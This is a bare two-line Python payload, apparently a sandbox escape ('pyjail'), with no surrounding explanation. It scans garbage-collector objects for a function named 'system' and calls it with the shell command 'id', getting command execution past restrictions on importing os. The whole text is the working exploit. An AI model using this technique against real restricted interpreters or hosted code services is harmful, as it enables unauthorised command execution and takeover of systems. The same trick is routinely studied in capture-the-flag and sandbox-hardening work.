import gc
[o for o in gc.get_objects() if getattr(o, "__name__", "") == "system"][0]("id")
